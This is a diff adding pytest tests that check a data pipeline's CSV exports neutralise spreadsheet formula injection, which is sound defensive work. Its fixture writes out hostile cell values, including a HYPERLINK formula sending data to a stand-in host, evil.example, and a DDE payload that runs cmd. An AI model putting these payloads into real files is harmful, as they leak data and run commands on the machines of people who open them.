@@ -12,7 +12,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
-from dagster_project.publish.exports import write_exports
+from dagster_project.publish.exports import EXPORT_QUERIES, write_exports
 from dagster_project.publish.files import write_atomic
 
 TABLES = ("daily_revenue", "monthly_revenue_by_model", "user_statements", "user_statement_lines")
@@ -100,3 +100,82 @@ def test_rewrite_is_atomic_and_leaves_no_temporary_files(built_warehouse, tmp_pa
         write_atomic(target, fails)
     assert target.read_text() == before
     assert not [p for p in target.parent.iterdir() if p.name.startswith(".")]
+
+
+# Users whose ids, e-mails and plans a spreadsheet would run as formulas (OWASP "CSV injection"): one per trigger.
+HOSTILE = {  # fixture user id -> (user id, e-mail, plan); usr_ghost is not in the users export
+    "usr_past": ('=HYPERLINK("http://evil.example/?leak="&A1,"statement")', "=1+1@example.com", "pro"),
+    "usr_t95": ("+cmd|' /C calc'!A0", "+t95@example.com", "=2+5"),
+    "usr_new": ("-2+3", "-new@example.com", "free"),
+    "usr_az": ("@SUM(1+1)", "\taz@example.com", "team"),
+    "usr_ghost": ("\rusr_ghost", None, None),
+}
+
+
+def neutralised(text: str) -> str:
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
+@pytest.fixture(scope="module")
+def hostile_exports(built_warehouse: Path, tmp_path_factory) -> tuple[Path, duckdb.DuckDBPyConnection]:
+    """The exports of a copy of the warehouse whose user ids, e-mails and plans were made hostile."""
+    folder = tmp_path_factory.mktemp("hostile_exports")
+    shutil.copy(built_warehouse / "warehouse.duckdb", folder / "warehouse.duckdb")
+    with duckdb.connect(str(folder / "warehouse.duckdb")) as con:
+        for old, (user_id, email, plan) in HOSTILE.items():
+            con.execute("update ai_usage_analytics set user_id = ? where user_id = ?", [user_id, old])
+            con.execute("update users set id = ?, email = ?, plan = ? where id = ?", [user_id, email, plan, old])
+        write_exports(con, folder / "exports")
+    with duckdb.connect(str(folder / "warehouse.duckdb"), read_only=True) as con:
+        yield folder / "exports", con
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_parquet_keeps_them(hostile_exports):
+    exports, _ = hostile_exports
+    csv_rows = read_csv(exports / "user_statements" / "2026-11.csv")
+    parquet_rows = pq.read_table(exports / "user_statements" / "2026-11.parquet").to_pylist()
+    assert sorted((r["user_id"], r["email"], r["plan"]) for r in csv_rows) == sorted(
+        [
+            ("'" + '=HYPERLINK("http://evil.example/?leak="&A1,"statement")', "'=1+1@example.com", "pro"),
+            ("'+cmd|' /C calc'!A0", "'+t95@example.com", "'=2+5"),
+            ("'-2+3", "'-new@example.com", "free"),
+            ("'@SUM(1+1)", "'\taz@example.com", "team"),
+            ("'\rusr_ghost", "", ""),
+        ]
+    )
+    assert {r["user_id"]: (r["user_id"], r["email"], r["plan"]) for r in parquet_rows} == {
+        values[0]: values for values in HOSTILE.values()
+    }
+    lines = read_csv(exports / "user_statement_lines" / "2026-11.csv")
+    assert sorted({r["user_id"] for r in lines}) == sorted("'" + user_id for user_id, _, _ in HOSTILE.values())
+
+
+def test_every_csv_cell_is_its_parquet_value_text_neutralised_numbers_exact(hostile_exports):
+    """Across every export: a text cell is the Parquet text (with the quote where needed), a number is the exact
+    Parquet number (a negative amount is not quoted), and money sums are still the marts' to the last decimal."""
+    exports, con = hostile_exports
+    negatives = 0
+    for table in EXPORT_QUERIES:
+        parquet = pq.read_table(exports / table / "2026-11.parquet")
+        rows = read_csv(exports / table / "2026-11.csv")
+        assert len(rows) == parquet.num_rows
+        for field in parquet.schema:
+            values = parquet.column(field.name).to_pylist()
+            cells = [row[field.name] for row in rows]
+            if pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
+                assert cells == [neutralised(v) if v is not None else "" for v in values], (table, field.name)
+            elif pa.types.is_decimal(field.type):
+                assert [D(c) for c in cells] == values, (table, field.name)
+                negatives += sum(c.startswith("-") for c in cells)
+            elif pa.types.is_integer(field.type):
+                assert [int(c) for c in cells] == values, (table, field.name)
+    assert negatives > 0  # the fixture has negative profits: they stay numbers, unquoted
+    revenue, profit = con.execute("select sum(revenue_usd), sum(profit_usd) from ai_revenue_analytics").fetchone()
+    assert (revenue, profit) == (D("0.201431818182"), D("-0.431418181818"))
+    for table, column, total in (
+        ("user_statements", "amount_due_usd", revenue),
+        ("user_statement_lines", "user_charge_usd", revenue),
+        ("monthly_revenue_by_model", "profit_usd", profit),
+        ("daily_revenue", "profit_usd", profit),
+    ):
+        assert sum(D(r[column]) for r in read_csv(exports / table / "2026-11.csv")) == total, table
